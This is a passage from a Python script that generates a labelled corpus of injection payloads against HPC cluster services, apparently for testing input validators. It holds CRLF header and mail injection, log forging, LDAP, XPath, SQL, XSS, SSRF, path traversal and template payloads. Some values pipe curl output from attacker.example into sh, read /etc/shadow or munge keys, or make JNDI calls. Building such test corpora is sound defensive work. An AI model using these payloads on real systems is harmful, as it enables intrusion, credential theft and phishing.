header-set-cookie+urlencode gpu%0d%0aSet-Cookie:%20session=attacker
header-location-redirect+urlencode x%0d%0aLocation:%20https://attacker.example/
header-literal-crlf-xff gpu␍⏎X-Forwarded-For: 127.0.0.1
response-splitting-html+urlencode %0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>
mail-bcc-literal-lf jdoe@uni.example.edu⏎Bcc: victims@attacker.example
mail-cc+urlencode Job finished%0ACc: list@attacker.example
mail-subject-body-crlf report␍⏎Subject: Password reset␍⏎␍⏎Click https://attacker.example/reset
header-unicode-crlf-node %E5%98%8A%E5%98%8DSet-Cookie: x=1
header-iis-u-crlf x%u000d%u000aSet-Cookie:a=b
header-double-urlencode x%250d%250aSet-Cookie:x=1
syslog-forged-sudo ticket 20931 closed⏎Mar  2 11:04:55 login1 sudo:     jdoe : TTY=pts/3 ; PWD=/home/jdoe ; USER=root ; COMMAND=/bin/bash
json-log-field-forging md_run","level":"INFO","user":"admin","msg":"login ok
response-splitting-body+urlencode x%0d%0a%0d%0a<html><body>Cluster maintenance: re-enter password at https://attacker.example/</body></html>
header-transfer-encoding-literal en-US␍⏎Transfer-Encoding: chunked
header-disable-xss-protection+urlencode utf-8%0d%0aX-XSS-Protection:0
header-refresh-lf+urlencode x%0aRefresh:0;url=https://attacker.example/
slurmctld-log-forged-job md_run⏎slurmctld: _slurm_rpc_submit_batch_job: JobId=9999999 InitPrio=1 usec=5
smtp-command-injection jdoe␍⏎.␍⏎MAIL FROM:<x@attacker.example>␍⏎RCPT TO:<victim@uni.example.edu>␍⏎DATA
header-content-type+urlencode x%0D%0AContent-Type:%20text/html
header-cors-allow-origin+urlencode x%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example
header-mixed-case-set-cookie x%0D%0aSet-Cookie: a=b
mail-to-all-staff+urlencode a@uni.example.edu%0ATo:%20all-staff@uni.example.edu
request-smuggling-literal x␍⏎␍⏎GET /admin HTTP/1.1␍⏎Host: 127.0.0.1
header-x-accel-redirect+urlencode ok%0d%0aX-Accel-Redirect:%20/internal/secrets
logline-cr-overwrite quota ok␍2024-05-01 ERROR auth: password for root accepted
## ldap-xpath
ldap-uid-wildcard-close *)(uid=*))(|(uid=*
ldap-or-objectclass jdoe)(|(objectClass=*)
ldap-password-presence jdoe)(|(userPassword=*))
ldap-admin-and-true admin)(&)
ldap-group-admin-filter *)(memberOf=cn=hpc-admins,ou=groups,dc=uni,dc=example,dc=edu
ldap-uidnumber-root *)(uidNumber=0))(|(uid=*
ldap-not-and-false admin)(!(&(1=0
ldap-cn-sn-or x)(|(cn=*)(sn=*))
ldap-homedir-root *)(homeDirectory=/root
ldap-wildcard+urlencode %2a%29%28uid%3d%2a%29%29%28%7c%28uid%3d%2a
xpath-or-tautology ' or 1=1 or ''='
xpath-count-probe ' or count(//user)>0 or 'a'='b
xpath-union-password '] | //user/password | a['
xpath-blind-name ' or substring(name(/*[1]),1,1)='a' or ''='
xpath-blind-string-length x' or string-length(//user[1]/password)>5 or 'a'='b
xpath-numeric-true 4821337 or true()
xpath2-doc-exfil ' or doc(concat('http://attacker.example/',name(/*))) or '
ldap-mail-wildcard-inject *)(mail=*@uni.example.edu))(|(cn=*
'''

# ---- templated part: ONE template per category. Each either joins a
# hand-written theme prefix to a hand-written payload, or applies a single
# URL encoding to a hand-written payload.
FRAMES = {
    "sqli": [("jobsearch", "gpu"), ("ticket-ref", "ticket 20931"), ("account", "chem-dft-2024")],
    "xss": [("ticket-note", "Job 4821337 died again, see: "), ("nodelist", "node[001-032] "), ("chat", "@kpatel look ")],
    "cmdi": [("module-line", "module load openmpi/4.1.5"), ("sbatch-jobname", "md_run"), ("squeue-user", "jdoe")],
    "traversal": [("scratch-prefix", "/scratch/jdoe/"), ("project-prefix", "/project/astro-lensing/"), ("logs-prefix", "logs/")],
    "ssrf": [],
    "code": [("ticket-note", "Stack trace attached: "), ("jobname", "#SBATCH --job-name="), ("comment", "Module request: ")],
    "nosqli": [],
    "crlf": [("jobname", "md_run"), ("mail-user", "jdoe@uni.example.edu")],
    "ldap-xpath": [("username", "jdoe")],
}
PAYLOADS = {
    "sqli": [("union-select", "' UNION SELECT login,pass FROM accounts-- -"), ("boolean", "' OR 'x'='x"),
             ("mysql-sleep", "' AND SLEEP(7)#"), ("pg-sleep", "'; SELECT pg_sleep(7)--")],
    "xss": [("img-onerror", "<img src=1 onerror=alert(document.cookie)>"), ("svg-onload", "<svg onload=alert(2)>"),
            ("iframe-js", "<iframe src=javascript:alert(3)>")],
    "cmdi": [("semicolon-id", "; id"), ("pipe-curl-sh", " | curl attacker.example/r | sh"),
             ("dollar-paren-uname", " $(uname -a)"), ("andand-cat-shadow", " && cat /etc/shadow")],
    "traversal": [("dotdot-passwd", "../../../../etc/passwd"), ("dotdot-shadow", "../../../../../etc/shadow"),
                  ("dotdot-munge", "../../../../etc/munge/munge.key")],
    "ssrf": [("aws-imds", "http://169.254.169.254/latest/user-data"), ("loopback-slurmrestd", "http://127.0.0.1:6820/slurm/v0.0.40/nodes"),
             ("rfc1918-admin", "http://10.10.0.1/cgi-bin/admin"), ("gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/project/project-id"),
             ("loopback-slurmctld", "http://localhost:6817/"), ("rfc1918-grafana", "http://192.168.10.20:3000/api/admin/users")],
    "code": [("jinja2-os-popen", "{{ cycler.__init__.__globals__.os.popen('whoami').read() }}"),
             ("log4shell-ldap", "${jndi:ldap://attacker.example/j}"),
             ("spel-runtime", "${T(java.lang.Runtime).getRuntime().exec('whoami')}")],
    "nosqli": [("ne-empty", '{"$ne": ""}'), ("where-true", '{"$where": "1==1"}'), ("regex-any", '{"$regex": ".*"}')],
    "crlf": [("lf-forged-log", "\n2024-06-01 00:00:00 INFO admin login ok"), ("crlf-set-cookie", "\r\nSet-Cookie: sid=attacker")],
    "ldap-xpath": [("ldap-or-wildcard", ")(|(uid=*)"), ("xpath-or-true", "' or true() or '")],
}
TPL_COUNT = {"sqli": 8, "xss": 8, "cmdi": 8, "traversal": 6, "ssrf": 6, "code": 8, "nosqli": 3, "crlf": 3, "ldap-xpath": 2}
ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]


def parse_literals():
    out = []
    cat = None
    for line in LITERALS.split("\n"):
        if not line.strip():
            continue
        if line.startswith("## "):
            cat = line[3:].strip()
            continue
        cls, value = line.split(" ", 1)
        value = value.replace("\u23ce", "\n").replace("\u240d", "\r").replace("\u21e5", "\t")
        out.append((cat, cls, value))
    return out


def templated(cat, seen):
    res = []
    frames, payloads = FRAMES[cat], PAYLOADS[cat]
    guard = 0
    while len(res) < TPL_COUNT[cat]:
        guard += 1
        assert guard < 1000, cat
        pcls, payload = rng.choice(payloads)
        if frames and rng.random() < 0.6:
            fname, prefix = rng.choice(frames)
            cls, value = "%s-%s" % (fname, pcls), prefix + payload
        else:
            cls, value = pcls + "+urlencode", urllib.parse.quote(payload, safe="")
        if value in seen:
            continue
        seen.add(value)
        res.append((cat, cls, value))
    return res


def main():
    lits = parse_literals()
    seen = set()
    for _, _, v in lits:
        assert v not in seen, v
        seen.add(v)
    rows = []
    for cat in ORDER:
        rows += [r for r in lits if r[0] == cat]
        rows += templated(cat, seen)
    assert {r[0] for r in lits} == set(ORDER)
    path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            assert v.strip()
            rec = {"id": "%s-%05d" % (PREFIX, i), "category": cat, "class": cls, "label": "attack", "value": v}
            f.write(json.dumps(rec, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
